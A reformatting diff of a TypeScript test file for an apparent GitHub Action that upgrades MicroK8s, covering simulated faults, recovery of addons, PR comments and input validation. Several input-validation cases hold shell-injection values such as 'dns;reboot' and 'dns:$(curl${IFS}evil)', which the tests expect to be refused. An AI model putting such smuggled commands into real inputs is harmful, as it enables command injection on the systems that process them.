@@ -55,9 +55,20 @@ describe('faults that end in a retry that succeeds', () => {
 
 describe('faults that end in a warning', () => {
   it('snapd too old to hold refreshes: warns and upgrades anyway', async () => {
-    const r = await run('demo', { channel: '1.29/stable' }, { overrides: { ...fast, faults: [{ match: '^snap refresh --hold', times: 1, exit: 1, stderr: 'error: unknown flag `hold\'' }] } })
+    const r = await run(
+      'demo',
+      { channel: '1.29/stable' },
+      {
+        overrides: {
+          ...fast,
+          faults: [{ match: '^snap refresh --hold', times: 1, exit: 1, stderr: "error: unknown flag `hold'" }]
+        }
+      }
+    )
     expect(r.code, r.stdout).toBe(0)
-    expect(r.stdout).toMatch(/::warning title=hold-refresh::could not hold auto-refresh of microk8s \(snapd 2.58 or newer is needed\)/)
+    expect(r.stdout).toMatch(
+      /::warning title=hold-refresh::could not hold auto-refresh of microk8s \(snapd 2.58 or newer is needed\)/
+    )
     expect(r.outputs.version).toBe('v1.29.15')
     expect(r.savedState.held).toBeUndefined()
   })
@@ -70,7 +81,10 @@ describe('faults that end in a clear error', () => {
     expect(errorAnnotation(r)).toMatch(/channel 1\.29\/stable \(Kubernetes 1\.29\) is not published/)
     expect(mutatingCommands(r)).toEqual([])
     expectReport(r, 'failure')
-    expect(r.report.failure).toMatchObject({ step: 'plan', clusterState: 'not touched: the action stopped before any change' })
+    expect(r.report.failure).toMatchObject({
+      step: 'plan',
+      clusterState: 'not touched: the action stopped before any change'
+    })
     expectNothingLost(r)
   })
 
@@ -94,7 +108,9 @@ describe('faults that end in a clear error', () => {
   it('a snap refresh that hangs (a stuck snapd change) is stopped after wait-timeout plus a margin', async () => {
     const r = await run('faults/refresh-hangs', { channel: '1.29/stable', 'wait-timeout': '1' })
     expect(r.code).toBe(1)
-    expect(errorAnnotation(r)).toMatch(/snap refresh microk8s --channel=1\.29\/stable --classic' failed with exit code 124.*was stopped after 2s/)
+    expect(errorAnnotation(r)).toMatch(
+      /snap refresh microk8s --channel=1\.29\/stable --classic' failed with exit code 124.*was stopped after 2s/
+    )
     expect(r.wallMs).toBeLessThan(30_000)
     expectReport(r, 'failure')
     expectNothingLost(r)
@@ -103,7 +119,9 @@ describe('faults that end in a clear error', () => {
   it('the API server reports the wrong minor after a refresh: stops before the next hop', async () => {
     const r = await run('faults/wrong-minor', { channel: '1.30/stable' })
     expect(r.code).toBe(1)
-    expect(errorAnnotation(r)).toMatch(/after refreshing to 1\.29\/stable the API server reports v1\.28\.15, not Kubernetes 1\.29; stopping before the next hop/)
+    expect(errorAnnotation(r)).toMatch(
+      /after refreshing to 1\.29\/stable the API server reports v1\.28\.15, not Kubernetes 1\.29; stopping before the next hop/
+    )
     expect(commandLines(r)).not.toContain('snap refresh microk8s --channel=1.30/stable --classic')
     expectReport(r, 'failure')
     expectNothingLost(r)
@@ -116,16 +134,38 @@ describe('faults that end in a clear error', () => {
     expect(message).toMatch(/enable ingress: microk8s enable ingress failed with exit code 1/)
     expect(message).toMatch(/Addons: dns cycled, ingress failed, hostpath-storage re-enabled/)
     expect(message).toMatch(/Recovery: ingress: re-enabled; hostpath-storage: re-enabled/)
-    for (const [kind, ns, name] of [['Deployment', 'kube-system', 'coredns'], ['DaemonSet', 'ingress', 'nginx-ingress-microk8s-controller'], ['Deployment', 'kube-system', 'hostpath-provisioner']]) {
+    for (const [kind, ns, name] of [
+      ['Deployment', 'kube-system', 'coredns'],
+      ['DaemonSet', 'ingress', 'nginx-ingress-microk8s-controller'],
+      ['Deployment', 'kube-system', 'hostpath-provisioner']
+    ]) {
       expect(object(r, kind, ns, name), `${name} is running again`).toBeDefined()
     }
     expectReport(r, 'failure')
-    expect(r.report.failure.clusterState).toMatch(/enabled addons: dns, ha-cluster, helm, helm3, hostpath-storage, ingress/)
+    expect(r.report.failure.clusterState).toMatch(
+      /enabled addons: dns, ha-cluster, helm, helm3, hostpath-storage, ingress/
+    )
     expectNothingLost(r)
   })
 
   it('an addon disable fails mid-way: the one already disabled and the failing one are brought back', async () => {
-    const r = await run('demo', { channel: '1.30/stable' }, { overrides: { ...fast, faults: [{ match: '^microk8s disable ingress', times: 1, exit: 1, stdout: 'Disabling Ingress\nerror: timed out waiting for the condition' }] } })
+    const r = await run(
+      'demo',
+      { channel: '1.30/stable' },
+      {
+        overrides: {
+          ...fast,
+          faults: [
+            {
+              match: '^microk8s disable ingress',
+              times: 1,
+              exit: 1,
+              stdout: 'Disabling Ingress\nerror: timed out waiting for the condition'
+            }
+          ]
+        }
+      }
+    )
     expect(r.code).toBe(1)
     const message = errorAnnotation(r)
     expect(message).toMatch(/disable ingress: microk8s disable ingress failed with exit code 1/)
@@ -141,7 +181,9 @@ describe('faults that end in a clear error', () => {
   it('an addon’s rollout never completes: fails naming the workload and wait-timeout, addons left enabled', async () => {
     const r = await run('faults/rollout-stuck', { channel: '1.30/stable', 'wait-timeout': '30' })
     expect(r.code).toBe(1)
-    expect(errorAnnotation(r)).toMatch(/addon ingress: daemonset ingress\/nginx-ingress-microk8s-controller did not finish rolling out within wait-timeout/)
+    expect(errorAnnotation(r)).toMatch(
+      /addon ingress: daemonset ingress\/nginx-ingress-microk8s-controller did not finish rolling out within wait-timeout/
+    )
     expect(object(r, 'Deployment', 'kube-system', 'hostpath-provisioner')).toBeDefined()
     expectNothingLost(r)
   })
@@ -164,11 +206,16 @@ describe('faults that end in a clear error', () => {
 
   it('no sudo on a non-root runner: fails before any command, saying what is needed', async () => {
     const bin = fs.mkdtempSync(path.join(os.tmpdir(), 'bin-'))
-    for (const tool of ['snap', 'microk8s']) fs.symlinkSync(path.join(process.cwd(), 'sim', 'bin', tool), path.join(bin, tool))
+    for (const tool of ['snap', 'microk8s'])
+      fs.symlinkSync(path.join(process.cwd(), 'sim', 'bin', tool), path.join(bin, tool))
     fs.symlinkSync(process.execPath, path.join(bin, 'node'))
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mk8s-nosudo-'))
     fs.chmodSync(dir, 0o777)
-    const r = await run('demo', { channel: '1.30/stable' }, { dir, env: { PATH: bin }, spawnOptions: { uid: 65534, gid: 65534 } })
+    const r = await run(
+      'demo',
+      { channel: '1.30/stable' },
+      { dir, env: { PATH: bin }, spawnOptions: { uid: 65534, gid: 65534 } }
+    )
     expect(r.code).toBe(1)
     expect(errorAnnotation(r)).toMatch(/not running as root and sudo is not available/)
     expect(r.state.calls).toEqual([])
@@ -176,7 +223,15 @@ describe('faults that end in a clear error', () => {
   })
 
   it('a non-Linux runner: fails at once, naming the platform', async () => {
-    const r = await run('demo', { channel: '1.30/stable' }, { env: { NODE_OPTIONS: "--import=data:text/javascript,Object.defineProperty(process,'platform',{value:'darwin'})" } })
+    const r = await run(
+      'demo',
+      { channel: '1.30/stable' },
+      {
+        env: {
+          NODE_OPTIONS: "--import=data:text/javascript,Object.defineProperty(process,'platform',{value:'darwin'})"
+        }
+      }
+    )
     expect(r.code).toBe(1)
     expect(errorAnnotation(r)).toMatch(/MicroK8s needs a Linux runner with snapd; this runner is darwin/)
     expect(r.state.calls).toEqual([])
@@ -184,7 +239,11 @@ describe('faults that end in a clear error', () => {
   })
 
   it('the step summary file missing: a warning, the report file still written, the run still succeeds', async () => {
-    const r = await run('demo', { channel: '1.28/stable' }, { env: { GITHUB_STEP_SUMMARY: '/nonexistent/dir/summary.md' } })
+    const r = await run(
+      'demo',
+      { channel: '1.28/stable' },
+      { env: { GITHUB_STEP_SUMMARY: '/nonexistent/dir/summary.md' } }
+    )
     expect(r.code, r.stdout).toBe(0)
     expect(r.stdout).toMatch(/::warning title=job summary::could not write the job summary/)
     expectReport(r, 'success')
@@ -231,7 +290,12 @@ describe('pull-request comment', () => {
   const prEnv = () => {
     const event = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'ev-')), 'event.json')
     fs.writeFileSync(event, JSON.stringify({ pull_request: { number: 7 } }))
-    return { GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: event, GITHUB_REPOSITORY: 'o/r', GITHUB_API_URL: apiUrl }
+    return {
+      GITHUB_EVENT_NAME: 'pull_request',
+      GITHUB_EVENT_PATH: event,
+      GITHUB_REPOSITORY: 'o/r',
+      GITHUB_API_URL: apiUrl
+    }
   }
 
   it('creates one sticky comment, updates it on the next run, and keeps it under the limit', async () => {
@@ -252,7 +316,9 @@ describe('pull-request comment', () => {
     Object.assign(state, { comments: [], forbid: true, maxBody: Infinity })
     const r = await run('demo', { channel: '1.28/stable', 'pr-comment': 'true', 'github-token': 't' }, { env: prEnv() })
     expect(r.code, r.stdout).toBe(0)
-    expect(r.stdout).toMatch(/::warning title=pull-request comment::could not comment on the pull request: the token may not comment/)
+    expect(r.stdout).toMatch(
+      /::warning title=pull-request comment::could not comment on the pull request: the token may not comment/
+    )
     expect(r.summary).toContain('MicroK8s v1.28.15 unchanged')
   })
 
@@ -269,16 +335,48 @@ describe('bad inputs: a clear error naming the input, before anything touches th
   it.each([
     ['malformed channel', { channel: '1.30' }, /Input 'channel': '1\.30' is not a channel; expected '<track>\/<risk>'/],
     ['unknown risk', { channel: '1.30/nightly' }, /Input 'channel': .*unknown risk 'nightly'/],
-    ['downgrade', { channel: '1.27/stable' }, /older than the installed Kubernetes 1\.28: MicroK8s does not support downgrades/],
+    [
+      'downgrade',
+      { channel: '1.27/stable' },
+      /older than the installed Kubernetes 1\.28: MicroK8s does not support downgrades/
+    ],
     ['skip of flavour (classic to strict)', { channel: '1.30-strict/stable' }, /does not switch confinement in place/],
-    ['shell metacharacters in an addon name', { channel: '1.30/stable', addons: 'dns;reboot' }, /Input 'addons': 'dns;reboot' does not start with an addon name/],
-    ['shell metacharacters in addon args', { channel: '1.30/stable', addons: 'dns:$(curl${IFS}evil)' }, /Input 'addons': arguments of 'dns'/],
-    ['quotes in addon args', { channel: '1.30/stable', addons: "dns:'8.8.8.8'" }, /quotes, spaces and shell characters are refused/],
-    ['a newline inside an argument list', { channel: '1.30/stable', addons: 'metallb:10.0.0.1-10.0.0.9,\n;rm' }, /Input 'addons': ';rm' does not start with an addon name/],
-    ['a duplicate addon', { channel: '1.30/stable', addons: 'dns ingress dns:1.1.1.1' }, /Input 'addons': 'dns' is listed twice/],
-    ['a negative wait-timeout', { channel: '1.30/stable', 'wait-timeout': '-1' }, /Input 'wait-timeout': '-1' is not accepted; give a whole number of seconds from 1 to 21600/],
+    [
+      'shell metacharacters in an addon name',
+      { channel: '1.30/stable', addons: 'dns;reboot' },
+      /Input 'addons': 'dns;reboot' does not start with an addon name/
+    ],
+    [
+      'shell metacharacters in addon args',
+      { channel: '1.30/stable', addons: 'dns:$(curl${IFS}evil)' },
+      /Input 'addons': arguments of 'dns'/
+    ],
+    [
+      'quotes in addon args',
+      { channel: '1.30/stable', addons: "dns:'8.8.8.8'" },
+      /quotes, spaces and shell characters are refused/
+    ],
+    [
+      'a newline inside an argument list',
+      { channel: '1.30/stable', addons: 'metallb:10.0.0.1-10.0.0.9,\n;rm' },
+      /Input 'addons': ';rm' does not start with an addon name/
+    ],
+    [
+      'a duplicate addon',
+      { channel: '1.30/stable', addons: 'dns ingress dns:1.1.1.1' },
+      /Input 'addons': 'dns' is listed twice/
+    ],
+    [
+      'a negative wait-timeout',
+      { channel: '1.30/stable', 'wait-timeout': '-1' },
+      /Input 'wait-timeout': '-1' is not accepted; give a whole number of seconds from 1 to 21600/
+    ],
     ['a huge wait-timeout', { channel: '1.30/stable', 'wait-timeout': '99999999' }, /Input 'wait-timeout'/],
-    ['metallb requested without its range', { channel: '1.30/stable', addons: 'metallb' }, /metallb needs arguments.*metallb:10\.64\.140\.43-10\.64\.140\.49/]
+    [
+      'metallb requested without its range',
+      { channel: '1.30/stable', addons: 'metallb' },
+      /metallb needs arguments.*metallb:10\.64\.140\.43-10\.64\.140\.49/
+    ]
   ])('%s', async (_, inputs, message) => {
     const r = await run('demo', inputs as Record<string, string>, { overrides: fast })
     expect(r.code).toBe(1)
